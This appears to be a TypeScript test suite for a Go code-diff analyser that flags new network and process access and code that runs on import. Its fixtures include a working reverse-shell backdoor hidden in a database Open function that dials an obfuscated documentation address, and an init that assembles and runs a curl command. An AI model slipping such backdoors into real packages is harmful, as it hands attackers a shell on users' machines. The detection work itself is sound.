import { describeDifference, gainsPhrase, sentence } from '../../../server/src/gosource/index.ts';
import { describe, expect, test } from '../../kit.ts';
import { sources } from './sources.ts';

// The samples have the shape of known attacks and are inert: they are never
// compiled or run, and name only addresses that are reserved for documentation.

const cleanStore = {
  'db.go': `
    package store

    import (
      "os"
      "sync"
    )

    type DB struct{ mu sync.Mutex }

    func Open(path string, mode os.FileMode) (*DB, error) {
      db := &DB{}
      if err := db.load(path); err != nil {
        return nil, err
      }
      return db, nil
    }

    func (db *DB) load(path string) error { _, err := os.Stat(path); return err }
  `,
  'cursor.go': `
    package store

    import "fmt"

    type Cursor struct{}

    func (c *Cursor) String() string { return fmt.Sprint("cursor") }
  `,
};

describe('an Open that calls an added function, which dials an assembled address', () => {
  const gains = describeDifference(
    sources(cleanStore),
    sources({
      'db.go': `
        package store

        import (
          "bufio"
          "net"
          "os"
          "os/exec"
          "strings"
          "sync"
          "time"
        )

        type DB struct{ mu sync.Mutex }

        func Open(path string, mode os.FileMode) (*DB, error) {
          db := &DB{}
          go func() { ApiInit() }()
          if err := db.load(path); err != nil {
            return nil, err
          }
          return db, nil
        }

        func (db *DB) load(path string) error { _, err := os.Stat(path); return err }

        func ApiInit() {
          defer func() {
            time.Sleep(30 * time.Second)
            ApiInit()
          }()
          address := strings.Replace(strings.Replace(hostName+portName, marker, ".", -1), "qq", ":", 1)
          conn, err := net.Dial("tcp", address)
          if err != nil {
            return
          }
          for {
            line, _ := bufio.NewReader(conn).ReadString('\\n')
            out, _ := exec.Command("/bin/sh", "-c", line).CombinedOutput()
            conn.Write(out)
          }
        }
      `,
      'cursor.go': `
        package store

        import "fmt"

        const (
          hostName = "192xyz0xyz2xyz7"
          portName = "qq" + "4443"
          marker   = "xyz"
        )

        type Cursor struct{}

        func (c *Cursor) String() string { return fmt.Sprint("cursor") }
      `,
    }),
  );

  test('gains network and process', () => {
    expect(gains.capabilities).toEqual(['network', 'process']);
    expect(gains.imports.map(({ path }) => path)).toEqual(['bufio', 'net', 'os/exec', 'strings', 'time']);
    expect(gains.imports[0]?.file).toBe('db.go');
  });

  test('names the function, where it is, what it reaches and who calls it', () => {
    expect(gains.functions).toEqual([
      {
        name: 'ApiInit',
        file: 'db.go',
        line: 25,
        capabilities: ['network', 'process'],
        reaches: ['net.Dial', 'exec.Command'],
        calledFrom: ['Open'],
        usedIn: [],
      },
    ]);
    expect(gains.calls).toEqual([
      { function: 'Open', callee: 'ApiInit', file: 'db.go', line: 16, capabilities: ['network', 'process'] },
    ]);
  });

  test('shows the address although no line holds it', () => {
    expect(gains.strings[0]).toEqual({
      kind: 'address',
      text: '192.0.2.7:4443',
      assembled: true,
      file: 'db.go',
      line: 30,
    });
  });

  test('says so in one sentence', () => {
    expect(gains.initAdded).toBe(false);
    expect(gainsPhrase(gains)).toBe('gains network, process; ApiInit is called from Open');
    expect(sentence(gains)).toBe(
      'db.go and cursor.go differ, and gain network and process access; ApiInit is called from Open',
    );
  });

  test('is a loss, not a gain, the other way round', () => {
    const back = describeDifference(
      sources({ 'db.go': 'package store\nimport "net"\nfunc F() { net.Dial("tcp", "") }\n' }),
      sources({ 'db.go': 'package store\n' }),
    );
    expect(back).toMatchObject({
      imports: [],
      capabilities: [],
      functions: [],
      calls: [],
      strings: [],
      initAdded: false,
    });
    expect(back.lost).toEqual({ imports: ['net'], capabilities: ['network'], functions: ['F'] });
    expect(gainsPhrase(back)).toBe('');
    expect(sentence(back)).toBe('db.go differs; no new access is seen');
  });
});

describe('code that runs on import', () => {
  test('an init that starts a program put together from an array of strings', () => {
    const gains = describeDifference(
      new Map(),
      sources({
        'layout.go': `
          package layout

          import "os/exec"

          func init() {
            p := []string{"e", "h", "t", "p", ":", "/", "x", "a", "m", "l", ".", "i", "n", "v", "d", "c", "u", "r", " "}
            cmd := p[15] + p[16] + p[17] + p[9] + p[18] + p[1] + p[2] + p[2] + p[3] + p[4] + p[5] + p[5] +
              p[0] + p[6] + p[7] + p[8] + p[3] + p[9] + p[0] + p[10] + p[11] + p[12] + p[13] + p[7] + p[9] + p[11] + p[14]
            exec.Command("/bin/sh", "-c", cmd).Start()
          }
        `,
      }),
    );
    expect(gains.runsOnImport).toEqual([
      {
        kind: 'init',
        name: 'init',
        file: 'layout.go',
        line: 4,
        capabilities: ['process'],
        acts: ['process'],
      },
    ]);
    expect(gains.initAdded).toBe(true);
    expect(gains.strings).toContainEqual({
      kind: 'url',
      text: 'curl http://example.invalid',
      assembled: true,
      file: 'layout.go',
      line: 6,
    });
    expect(gainsPhrase(gains)).toBe('gains process; init in layout.go runs on import');
    expect(sentence(gains)).toBe(
      'layout.go is added, and gains process access; init in layout.go runs on import',
    );
  });

  test('a package-level variable that is set by a function literal', () => {
    const gains = describeDifference(
      sources({ 'a.go': 'package a\n\nvar ready = true\n' }),
      sources({
        'a.go': `
          package a

          import "net/http"

          var ready = func() bool {
            response, err := http.Get("http://192.0.2.1/a")
            return err == nil && response != nil
          }()
        `,
      }),
    );
    expect(gains.runsOnImport).toEqual([
      {
        kind: 'package variable',
        name: 'ready',
        file: 'a.go',
        line: 4,
        capabilities: ['network'],
        acts: ['network'],
      },
    ]);
    expect(gains.strings).toEqual([
      { kind: 'url', text: 'http://192.0.2.1/a', assembled: false, file: 'a.go', line: 5 },
    ]);
    expect(gainsPhrase(gains)).toBe('gains network; package variable ready in a.go runs on import');
  });

  test('a loader behind two calls, in another file, through a method', () => {
    const gains = describeDifference(
      new Map(),
      sources({
        'a.go': 'package a\n\nvar _ = start()\n',
        'b.go':
          'package a\n\ntype loader struct{}\n\nfunc start() bool { l := loader{}; l.run(); return true }\n',
        'c.go': 'package a\n\nimport "os/exec"\n\nfunc (l loader) run() { exec.Command("true").Run() }\n',
      }),
    );
    expect(gains.runsOnImport).toEqual([
      {
        kind: 'package variable',
        name: '_',
        file: 'a.go',
        line: 2,
        capabilities: ['process'],
        acts: ['process'],
      },
    ]);
    expect(gains.functions.map(({ name, calledFrom }) => ({ name, calledFrom }))).toEqual([
      { name: 'loader.run', calledFrom: ['start'] },
      { name: 'start', calledFrom: ['package variable'] },
    ]);
  });

  test.each([
    ['once.Do', 'var once sync.Once\nfunc init() { once.Do(func() { exec.Command("true").Run() }) }'],
    ['a called literal', 'func init() { func() { exec.Command("true").Run() }() }'],
    ['a goroutine', 'func init() { go func() { exec.Command("true").Run() }() }'],
    [
      'a literal given to a function whose result is called',
      'var _ = sync.OnceValue(func() error { return exec.Command("true").Run() })()',
    ],
  ])('acts through %s', (_, code) => {
    const gains = describeDifference(
      new Map(),
      sources({ 'a.go': `package a\nimport (\n"os/exec"\n"sync"\n)\n${code}\n` }),
    );
    expect(gains.runsOnImport[0]?.acts).toEqual(['process']);
  });

  test('what is only prepared for later does not act', () => {
    const gains = describeDifference(
      new Map(),
      sources({
        'cmd.go': `
          package main

          import (
            "net/http"
            "os/exec"
          )

          var client = newClient()

          func newClient() *http.Client { return &http.Client{} }

          func init() {
            register(command{run: func() { exec.Command("true").Run() }})
          }
        `,
      }),
    );
    expect(gains.runsOnImport.map(({ name, capabilities, acts }) => ({ name, capabilities, acts }))).toEqual([
      { name: 'init', capabilities: ['process'], acts: [] },
      { name: 'client', capabilities: ['network'], acts: [] },
    ]);
  });

  test.each([
    'var ErrGone = errors.New("gone")',
    'var pattern = regexp.MustCompile("^a+$")',
    'var typ = reflect.TypeOf((*T)(nil)).Elem()',
    'var level = Level(3)',
    'var _ fmt.Stringer = (*T)(nil)',
    'var hook = func() { exec.Command("true").Run() }',
    'var table = map[string]func(){ "a": func() { run() } }',
    'var buffer = make([]byte, 10)',
    'var size = unsafe.Sizeof(level)',
    'var start = exec.Command',
    'var names = []string{"a", "b"}',
  ])('%s is no effect of an import', (code) => {
    const text = `package a\n\nimport (\n"errors"\n"fmt"\n"os/exec"\n"reflect"\n"regexp"\n"unsafe"\n)\n\ntype Level int\ntype T struct{}\n\n${code}\n`;
    expect(describeDifference(new Map(), sources({ 'a.go': text })).runsOnImport).toEqual([]);
  });

  test.each([
    [
      'a method of another package',
      'import "a/js"\nvar x = js.Global().Get("a")\nfunc (c *Client) Get(s string) { exec.Command(s).Run() }',
    ],
    ['a function that is only named', 'func init() { register(exec.Command, os.StartProcess) }'],
    [
      'a method of a type that nobody names',
      'func init() { handler.Close() }\nfunc (c *Client) Close() { exec.Command("x").Run() }',
    ],
  ])('%s does not act', (_, code) => {
    const [head = '', ...rest] = code.startsWith('import') ? code.split('\n') : ['', code];
    const text = `package a\n${head}\nimport ("os"; "os/exec")\n${rest.join('\n')}\n`;
    expect(describeDifference(new Map(), sources({ 'a.go': text })).runsOnImport[0]?.acts).toEqual([]);
  });

  test('a method of a package-level variable acts', () => {
    const text =
      'package a\nimport "os/exec"\nvar l loader\nfunc init() { l.run() }\nfunc (loader) run() { exec.Command("x").Run() }\n';
    expect(describeDifference(new Map(), sources({ 'a.go': text })).runsOnImport[0]?.acts).toEqual([
      'process',
    ]);
  });

  test('a second init is added, a moved one is not', () => {
    const one = 'package a\n\nfunc init() { register("one") }\n';
    const two = 'package a\n\nfunc init() { register("two") }\n';
    const added = describeDifference(sources({ 'a.go': one }), sources({ 'a.go': one, 'b.go': two }));
    expect(added.runsOnImport.map(({ file }) => file)).toEqual(['b.go']);
    const moved = describeDifference(sources({ 'a.go': one }), sources({ 'c.go': one }));
    expect(moved.initAdded).toBe(false);
  });

  test('an init that existed and now calls more says so among the calls', () => {
    const gains = describeDifference(
      sources({ 'a.go': 'package a\n\nfunc init() { register("one") }\n' }),
      sources({
        'a.go':
          'package a\n\nimport "net"\n\nfunc init() { register("one"); fetch() }\n\nfunc fetch() { net.Dial("tcp", "192.0.2.1:80") }\n',
      }),
    );
    expect(gains.initAdded).toBe(false);
    expect(gains.functions[0]?.calledFrom).toEqual(['init']);
    expect(gainsPhrase(gains)).toBe('gains network; fetch is called from init');
  });
});
